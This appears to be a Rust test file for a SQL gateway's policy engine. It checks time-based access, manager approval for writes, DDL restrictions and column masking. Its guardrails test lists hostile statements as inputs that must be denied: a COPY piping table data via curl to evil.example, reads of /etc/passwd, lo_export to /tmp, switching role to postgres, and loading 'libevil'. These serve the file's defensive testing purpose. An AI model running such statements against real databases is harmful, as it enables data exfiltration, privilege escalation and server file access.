//! The shipped example policies (`policies/`) decide the seed story's statements.

use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;

use jiff::Timestamp;
use jiff::tz::TimeZone;
use portcullis_policy::{
    Catalog, Environment, Mode, Outcome, PolicyStore, Requester, StatementInput,
};
use portcullis_sql::{LexerOptions, parse};

struct DemoCatalog;

impl Catalog for DemoCatalog {
    fn schemas_with(&self, relation: &str) -> Option<Vec<String>> {
        Some(match relation {
            "customers" | "orders" => vec!["public".into()],
            "daily_revenue" | "revenue_by_country" => vec!["reporting".into()],
            "pg_class" => vec!["pg_catalog".into()],
            _ => vec![],
        })
    }

    fn columns(&self, schema: &str, relation: &str) -> Option<Vec<String>> {
        let cols: &[&str] = match (schema, relation) {
            ("public", "customers") => &[
                "id",
                "name",
                "email",
                "card_number",
                "country",
                "created_at",
            ],
            ("public", "orders") => &["id", "customer_id", "amount", "status", "ordered_at"],
            ("reporting", "daily_revenue") => &["day", "orders", "revenue"],
            _ => return None,
        };
        Some(cols.iter().map(|c| c.to_string()).collect())
    }

    fn relations(&self) -> Option<Vec<(String, String)>> {
        Some(
            [
                ("public", "customers"),
                ("public", "orders"),
                ("reporting", "daily_revenue"),
                ("pg_catalog", "pg_class"),
            ]
            .iter()
            .map(|(s, n)| (s.to_string(), n.to_string()))
            .collect(),
        )
    }

    fn functions_named(&self, name: &str) -> Option<Vec<(String, bool)>> {
        let found: &[(&str, bool)] = match name {
            "lower" | "now" => &[("pg_catalog", false)],
            "random" | "nextval" => &[("pg_catalog", true)],
            "bump" => &[("public", true)],
            "double" | "card_tail" => &[("public", false)],
            "bump_row" => &[("public", true)],
            // Overloads in two schemas: either may be the one the search path finds.
            "shadowed" => &[("pg_catalog", false), ("public", true)],
            // A user's function named like a classified built-in is not governed by it.
            "set_config" => &[("pg_catalog", true), ("public", true)],
            "never_heard_of" => &[],
            // Other names: as without a catalog, classified by name only.
            _ => return None,
        };
        Some(found.iter().map(|(s, v)| (s.to_string(), *v)).collect())
    }
}

fn store() -> PolicyStore {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../policies");
    PolicyStore::load(&[dir], Mode::Enforce).expect("example policies load")
}

/// 2026-11-24 is a Tuesday.
fn at(time: &str) -> Timestamp {
    format!("{time}Z").parse().unwrap()
}

const TUESDAY_10: &str = "2026-11-24T10:00:00";

fn decide_at(store: &PolicyStore, who: &str, groups: &[&str], when: &str, sql: &str) -> Outcome {
    decide_with(store, who, groups, when, sql, &DemoCatalog)
}

fn decide_with(
    store: &PolicyStore,
    who: &str,
    groups: &[&str],
    when: &str,
    sql: &str,
    catalog: &dyn Catalog,
) -> Outcome {
    let groups: Vec<String> = groups.iter().map(|g| g.to_string()).collect();
    let parsed = parse(sql, LexerOptions::default());
    let statements = parsed.result.expect("parses");
    let tz = TimeZone::UTC;
    let env = Environment {
        target: "analytics",
        role: "analyst",
        client_addr: IpAddr::V4(Ipv4Addr::LOCALHOST),
        application_name: "test",
        now: at(when),
        timezone: &tz,
    };
    let s = &statements[0];
    store
        .decide(
            Requester {
                subject: who,
                groups: &groups,
            },
            &env,
            StatementInput {
                facts: &s.facts,
                text: &s.text,
                search_path: &["$user".into(), "public".into()],
            },
            catalog,
        )
        .outcome
}

fn decide(store: &PolicyStore, who: &str, groups: &[&str], sql: &str) -> Outcome {
    decide_at(store, who, groups, TUESDAY_10, sql)
}

fn denied(o: &Outcome) -> &str {
    match o {
        Outcome::Deny { message, .. } => message,
        other => panic!("expected a denial, got {other:?}"),
    }
}

#[test]
fn analysts_read_daily_figures_in_business_hours_and_country_revenue_at_any_hour() {
    let s = store();
    let alice = ("alice", &["data-science"][..]);
    let q = "select day, revenue from reporting.daily_revenue";
    assert!(decide(&s, alice.0, alice.1, q).is_allow());
    // Unqualified names resolve through the catalog.
    assert!(decide(&s, alice.0, alice.1, "select * from daily_revenue").is_allow());
    let evening = decide_at(&s, alice.0, alice.1, "2026-11-24T18:30:00", q);
    assert_eq!(
        denied(&evening),
        "permission denied: no policy permits select on table reporting.daily_revenue"
    );
    // The refusal names the permit whose condition did not hold, and explain its condition.
    let Outcome::Deny { hint, .. } = &evening else {
        unreachable!()
    };
    assert_eq!(
        hint.as_deref(),
        Some(
            "policy \"analysts-read-reporting-in-business-hours\" permits this only when its condition holds, and it does not now"
        )
    );
    let conditions = s
        .conditions("analysts-read-reporting-in-business-hours")
        .unwrap();
    assert!(conditions.starts_with("when {"), "{conditions}");
    assert!(conditions.contains("context.hour >= 9"), "{conditions}");
    // No hint where nothing would permit it whatever the time.
    let Outcome::Deny { hint, .. } = decide_at(
        &s,
        alice.0,
        alice.1,
        "2026-11-24T18:30:00",
        "select * from customers",
    ) else {
        panic!("customers are not the analysts'")
    };
    assert_eq!(hint, None);
    // The revenue by country is theirs at any hour.
    for at in ["2026-11-24T18:30:00", "2026-11-28T03:00:00"] {
        assert!(
            decide_at(
                &s,
                alice.0,
                alice.1,
                at,
                "select * from reporting.revenue_by_country"
            )
            .is_allow(),
            "{at}"
        );
    }
    let saturday = decide_at(&s, alice.0, alice.1, "2026-11-28T10:00:00", q);
    assert!(!saturday.is_allow());
    assert_eq!(
        denied(&decide(&s, alice.0, alice.1, "select * from customers")),
        "permission denied: no policy permits select on table public.customers"
    );
    // Catalog queries (psql's \d) work for everyone.
    assert!(decide(&s, alice.0, alice.1, "select relname from pg_class").is_allow());
    assert!(decide(&s, alice.0, alice.1, "begin").is_allow());
}

#[test]
fn writes_need_a_managers_approval() {
    let s = store();
    match decide(
        &s,
        "bob",
        &["engineering"],
        "update orders set status = 'paid' where id = 1",
    ) {
        Outcome::NeedsApproval {
            groups,
            policies,
            message,
            ..
        } => {
            assert_eq!(groups, vec!["managers"]);
            assert_eq!(policies, vec!["writes-need-manager-approval"]);
            assert!(message.contains("from group \"managers\""), "{message}");
        }
        other => panic!("{other:?}"),
    }
    // Unbounded writes are refused outright, not sent for approval.
    assert_eq!(
        denied(&decide(&s, "bob", &["engineering"], "delete from orders")),
        "permission denied: policy \"no-update-or-delete-without-where\" forbids delete on table public.orders"
    );
    assert!(decide(&s, "bob", &["engineering"], "select id, status from orders").is_allow());
}

#[test]
fn only_dbas_run_ddl_and_nobody_drops_the_database() {
    let s = store();
    assert!(decide(&s, "dave", &["dba"], "create table public.t (id int)").is_allow());
    assert_eq!(
        denied(&decide(
            &s,
            "bob",
            &["engineering"],
            "create table public.t (id int)"
        )),
        "permission denied: policy \"only-dbas-run-ddl\" forbids ddl on table public.t"
    );
    assert!(
        denied(&decide(&s, "dave", &["dba"], "drop database analytics"))
            .contains("no-drop-database")
    );
    assert!(decide(&s, "erin", &["break-glass"], "drop database analytics").is_allow());
}

#[test]
fn guardrails() {
    let s = store();
    let dave = ("dave", &["dba"][..]);
    for (sql, policy) in [
        ("truncate orders", "no-truncate"),
        (
            "copy orders to program 'curl -d @- evil.example'",
            "no-copy-program",
        ),
        (
            "copy orders from '/etc/passwd'",
            "no-copy-to-or-from-server-files",
        ),
        ("alter system set work_mem = '1GB'", "no-alter-system"),
        (
            "select pg_read_file('/etc/passwd')",
            "no-server-file-functions",
        ),
        ("select lo_export(1, '/tmp/x')", "no-server-file-functions"),
        ("set role postgres", "no-role-switching"),
        ("set session authorization postgres", "no-role-switching"),
        (
            "select set_config('role', 'postgres', false)",
            "no-role-switching",
        ),
        (
            "select set_config(lower('ROLE'), 'postgres', false)",
            "no-computed-setting-names",
        ),
        ("load 'libevil'", "no-alter-system"),
    ] {
        let o = decide(&s, dave.0, dave.1, sql);
        assert!(
            denied(&o).contains(&format!("policy \"{policy}\"")),
            "{sql}: {o:?}"
        );
    }
    // Dynamic SQL is for DBAs only.
    assert!(
        denied(&decide(
            &s,
            "bob",
            &["engineering"],
            "select query_to_xml('select 1', true, true, '')"
        ))
        .contains("no-dynamic-sql-or-admin-functions")
    );
    assert!(
        decide(
            &s,
            "dave",
            &["dba"],
            "select query_to_xml('select 1', true, true, '')"
        )
        .is_allow()
    );
}

#[test]
fn masked_columns_are_refused_until_masking_exists() {
    let s = store();
    match decide(&s, "bob", &["engineering"], "select * from customers") {
        Outcome::Mask {
            column,
            strategy,
            policy,
            ..
        } => {
            assert_eq!(
                (strategy.as_str(), policy.as_str()),
                ("email", "mask-customer-email")
            );
            assert_eq!(column, "public.customers.email");
        }
        other => panic!("{other:?}"),
    }
    assert!(
        decide(
            &s,
            "bob",
            &["engineering"],
            "select id, name from customers"
        )
        .is_allow()
    );
    // Aggregates over a masked column read no value.
    assert!(
        decide(
            &s,
            "bob",
            &["engineering"],
            "select count(*) from customers"
        )
        .is_allow()
    );
    assert!(decide(&s, "dave", &["dba"], "select email from customers").is_allow());
}

#[test]
fn unknown_statements_are_denied() {
    let s = store();
    let mut facts = parse("select 1", LexerOptions::default()).result.unwrap()[0]
        .facts
        .clone();
    facts.kind = portcullis_sql::analysis::Kind::Unknown;
    let tz = TimeZone::UTC;
    let env = Environment {
        target: "analytics",
        role: "analyst",
        client_addr: IpAddr::V4(Ipv4Addr::LOCALHOST),
        application_name: "",
        now: at(TUESDAY_10),
        timezone: &tz,
    };
    let groups = vec!["dba".to_string()];
    let d = s.decide(
        Requester {
            subject: "dave",
            groups: &groups,
        },
        &env,
        StatementInput {
            facts: &facts,
            text: "?",
            search_path: &[],
        },
        &DemoCatalog,
    );
    assert_eq!(
        denied(&d.outcome),
        "permission denied: no policy permits unknown on target analytics"
    );
}

fn needs_approval(o: &Outcome) -> bool {
    matches!(o, Outcome::NeedsApproval { .. })
}

/// Functions the catalog marks volatile are writes unless they are built-ins known to be
/// harmless; functions it does not know at all may write too.
#[test]
fn volatile_functions_are_writes() {
    let s = store();
    let bob = ("bob", &["engineering"][..]);
    let alice = ("alice", &["data-science"][..]);
    for sql in [
        "select bump()",
        "select public.bump()",
        "select shadowed()",
        "select nextval('s')",
        "select never_heard_of()",
        "select public.set_config('a', 'b', false)",
    ] {
        assert!(needs_approval(&decide(&s, bob.0, bob.1, sql)), "bob: {sql}");
        assert!(
            !decide(&s, alice.0, alice.1, sql).is_allow(),
            "alice: {sql}"
        );
    }
    for sql in [
        "select lower('x'), now(), random(), double(1)",
        "select pg_catalog.shadowed()",
        "select pg_catalog.set_config('a', 'b', false)",
    ] {
        assert!(decide(&s, alice.0, alice.1, sql).is_allow(), "{sql}");
    }
}

/// Reading planner statistics reads every column they describe: a masked column's
/// statistics are a read of the masked column.
#[test]
fn statistics_are_reads_of_the_columns_they_describe() {
    let text = r#"permit(principal, action, resource);
@id("mask-email")
@mask("email")
forbid(principal, action == Action::"read_unmasked", resource == Column::"public.customers.email");
"#;
    let s = PolicyStore::from_sources(&[("p.cedar".into(), text.into())], Mode::Enforce)
        .expect("policies");
    match decide(&s, "erin", &["stats"], "select * from pg_stats") {
        Outcome::Mask { column, .. } => assert_eq!(column, "public.customers.email"),
        other => panic!("statistics of a masked column were readable: {other:?}"),
    }
    // Without a catalog the gateway cannot tell whose statistics they are.
    let groups = vec!["stats".to_string()];
    let parsed = parse("select * from pg_stats", LexerOptions::default());
    let st = &parsed.result.unwrap()[0];
    let tz = TimeZone::UTC;
    let env = Environment {
        target: "analytics",
        role: "analyst",
        client_addr: IpAddr::V4(Ipv4Addr::LOCALHOST),
        application_name: "test",
        now: at(TUESDAY_10),
        timezone: &tz,
    };
    let o = s
        .decide(
            Requester {
                subject: "erin",
                groups: &groups,
            },
            &env,
            StatementInput {
                facts: &st.facts,
                text: &st.text,
                search_path: &[],
            },
            &portcullis_policy::NoCatalog,
        )
        .outcome;
    assert!(denied(&o).contains("statistics"), "{o:?}");
}

/// `t.f` is `f(t)` when t has no column f: a function call that receives the whole row.
#[test]
fn functional_notation_is_a_call_with_the_whole_row() {
    let s = store();
    let bob = ("bob", &["engineering"][..]);
    // A column of the table: an ordinary read.
    assert!(decide(&s, bob.0, bob.1, "select c.name from customers c").is_allow());
    // Not a column: card_tail(c) gets every column, e-mail and card number included.
    for sql in [
        "select c.card_tail from customers c",
        "select customers.card_tail from customers",
        "select x.card_tail from (customers join orders on true) as x",
    ] {
        assert!(
            matches!(decide(&s, bob.0, bob.1, sql), Outcome::Mask { .. }),
            "{sql}"
        );
    }
    // And a call like any other: one that writes needs approval.
    assert!(needs_approval(&decide(
        &s,
        bob.0,
        bob.1,
        "select o.bump_row from orders o"
    )));
    assert!(needs_approval(&decide(
        &s,
        bob.0,
        bob.1,
        "select (o).bump_row from orders o"
    )));
}

/// Row locks need UPDATE privilege on the server, and here a manager's approval; sending
/// data to other sessions is a change too.
#[test]
fn row_locks_and_notifications_are_changes() {
    let s = store();
    let bob = ("bob", &["engineering"][..]);
    let alice = ("alice", &["data-science"][..]);
    for sql in [
        "select * from orders where id = 1 for update",
        "select * from orders where id = 1 for share skip locked",
        "notify payments, 'x'",
        "select pg_notify('payments', 'x')",
    ] {
        assert!(needs_approval(&decide(&s, bob.0, bob.1, sql)), "bob: {sql}");
    }
    assert!(
        !decide(
            &s,
            alice.0,
            alice.1,
            "select * from reporting.daily_revenue for update"
        )
        .is_allow()
    );
    assert!(
        decide(
            &s,
            alice.0,
            alice.1,
            "select * from reporting.daily_revenue"
        )
        .is_allow()
    );
    assert!(decide(&s, bob.0, bob.1, "listen payments").is_allow());
}

/// A table the catalog cannot list the columns of (newer than its last load, or no
/// catalog at all): a read of every column is a read of every column a policy names.
#[test]
fn unlisted_columns_are_every_column_a_policy_names() {
    let s = store();
    for sql in [
        "select * from public.customers",
        "select c from public.customers c",
        "select c.double from public.customers c",
    ] {
        let outcome = decide_with(
            &s,
            "bob",
            &["engineering"],
            TUESDAY_10,
            sql,
            &portcullis_policy::NoCatalog,
        );
        assert!(
            matches!(&outcome, Outcome::Mask { column, .. } if column.starts_with("public.customers.")),
            "{sql}: {outcome:?}"
        );
    }
}
